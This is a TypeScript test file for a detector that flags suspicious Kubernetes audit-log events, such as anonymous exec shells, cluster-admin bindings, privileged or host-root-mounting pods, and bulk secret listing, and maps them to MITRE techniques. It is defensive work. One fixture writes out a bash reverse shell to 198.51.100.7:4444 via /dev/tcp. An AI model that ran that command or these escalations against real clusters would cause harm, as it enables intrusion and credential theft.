/** Audit records of Kubernetes: grave acts are told with their technique, a cluster's everyday is not. */
import { expect, test } from 'vitest';
import { accusations, assessed } from './assessed.ts';

const audit = (of: object) => ({
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  level: 'RequestResponse',
  auditID: '57a794de',
  stage: 'ResponseComplete',
  verb: 'create',
  user: { username: 'dev', groups: ['system:authenticated'] },
  sourceIPs: ['198.51.100.9'],
  userAgent: 'kubectl/v1.30.0 (linux/amd64)',
  responseStatus: { code: 201 },
  requestReceivedTimestamp: '2026-11-24T09:12:01.100000Z',
  annotations: { 'authorization.k8s.io/decision': 'allow' },
  ...of,
});
const ANONYMOUS = { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] } };
const WORKLOAD = { user: { username: 'system:serviceaccount:shop:default' } };
const exec = (command: string, of: object = {}) =>
  audit({
    requestURI: `/api/v1/namespaces/shop/pods/web-1/exec?${command
      .split(' ')
      .map((word) => `command=${encodeURIComponent(word)}`)
      .join('&')}&stdin=true`,
    objectRef: { resource: 'pods', namespace: 'shop', name: 'web-1', subresource: 'exec' },
    responseStatus: { code: 101 },
    ...of,
  });
const binding = (subject: string, of: object = {}) =>
  audit({
    objectRef: { resource: 'clusterrolebindings', name: 'b' },
    requestObject: { roleRef: { name: 'cluster-admin' }, subjects: [{ kind: 'User', name: subject }] },
    ...of,
  });
const pod = (spec: object, of: object = {}) =>
  audit({ objectRef: { resource: 'pods', namespace: 'shop', name: 'p' }, requestObject: { kind: 'Pod', spec }, ...of });
const PRIVILEGED = { containers: [{ name: 'a', securityContext: { privileged: true } }] };
const rootMount = (readOnly: boolean) => ({
  containers: [{ name: 'a', volumeMounts: [{ name: 'root', mountPath: '/host', readOnly }] }],
  volumes: [{ name: 'root', hostPath: { path: '/' } }],
});
const secrets = (of: object = {}) =>
  audit({
    verb: 'list',
    requestURI: '/api/v1/secrets?limit=500',
    objectRef: { resource: 'secrets' },
    responseStatus: { code: 200 },
    ...WORKLOAD,
    ...of,
  });

test.each([
  ['a shell of somebody without a name', exec('/bin/sh', ANONYMOUS), 'critical cluster/exec', 'T1609'],
  ['a shell of a workload', exec('/bin/sh', WORKLOAD), 'high cluster/exec', 'T1609'],
  [
    'a shell that is handed away',
    exec('bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'),
    'high cluster/exec',
    'T1609',
  ],
  ['all rights for everybody', binding('system:anonymous'), 'critical cluster/admin-bound', 'T1098.006'],
  ['all rights, given by a workload', binding('x', WORKLOAD), 'high cluster/admin-bound', 'T1098.006'],
  ['all rights for a user', binding('eve'), 'medium cluster/admin-bound', 'T1098.006'],
  ['a privileged pod', pod(PRIVILEGED), 'medium cluster/pod-reaches-node', 'T1611'],
  ['a pod that writes to the node', pod(rootMount(false)), 'high cluster/pod-reaches-node', 'T1611'],
  [
    'a scheduled pod of a workload',
    audit({
      objectRef: { resource: 'cronjobs', namespace: 'shop', name: 'c' },
      requestObject: { spec: { jobTemplate: { spec: { template: { spec: rootMount(false) } } } } },
      ...WORKLOAD,
    }),
    'high cluster/pod-reaches-node',
    'T1611',
  ],
  ['all secrets, by hand with the token of a workload', secrets(), 'high cluster/secrets-listed', 'T1552.007'],
  [
    'somebody without a name who reads pods',
    audit({
      verb: 'list',
      requestURI: '/api/v1/namespaces/shop/pods',
      objectRef: { resource: 'pods', namespace: 'shop' },
      responseStatus: { code: 200 },
      ...ANONYMOUS,
    }),
    'high cluster/anonymous',
    'T1078.001',
  ],
])('%s is told', async (_what, record, told, technique) => {
  const result = await assessed([record]);
  expect(accusations(result)).toEqual([told]);
  expect(result.mitre_techniques).toEqual([technique]);
  expect(result.findings[0]?.evidence[0]).toMatchObject({
    locator: 'line 1',
    excerpt: expect.stringContaining('verb=') as string,
  });
});

test('secrets of one namespace after the other, with the token of a workload, are told once', async () => {
  const result = await assessed(
    Array.from({ length: 6 }, (_, index) =>
      secrets({ objectRef: { resource: 'secrets', namespace: `team-${index}` }, userAgent: 'app/1.0' }),
    ),
  );
  expect(accusations(result)).toEqual(['medium cluster/secrets-by-namespace']);
});

test.each([
  ['the shell of a person', [exec('ls -la')]],
  [
    'what was refused',
    [
      binding('eve', { responseStatus: { code: 403 }, annotations: { 'authorization.k8s.io/decision': 'forbid' } }),
      pod(PRIVILEGED, { responseStatus: { code: 403 } }),
    ],
  ],
  ['a lesser role', [binding('eve', { requestObject: { roleRef: { name: 'view' }, subjects: [{ name: 'eve' }] } })]],
  ['an ordinary pod', [pod({ containers: [{ name: 'a' }] })]],
  ['an exporter that only reads the node', [pod(rootMount(true))]],
  [
    'the proxy of the cluster',
    [
      pod(PRIVILEGED, {
        user: { username: 'system:serviceaccount:kube-system:daemon-set-controller' },
        objectRef: { resource: 'pods', namespace: 'kube-system', name: 'kube-proxy' },
      }),
    ],
  ],
  [
    'an operator that watches secrets',
    [secrets({ requestURI: '/api/v1/secrets?limit=500&resourceVersion=0', userAgent: 'cert-manager-controller/v1' })],
  ],
  [
    'a probe of the health of the server',
    [audit({ verb: 'get', requestURI: '/livez?verbose', responseStatus: { code: 200 }, ...ANONYMOUS })],
  ],
])('%s is benign', async (_what, records) => {
  const result = await assessed(records);
  expect(accusations(result)).toEqual([]);
  expect(result.verdict).toBe('benign');
});

test('a pod that the record does not show is no clean answer', async () => {
  const record = audit({ level: 'Metadata', objectRef: { resource: 'pods', namespace: 'shop', name: 'p' } });
  expect((await assessed([record])).verdict).toBe('inconclusive');
});
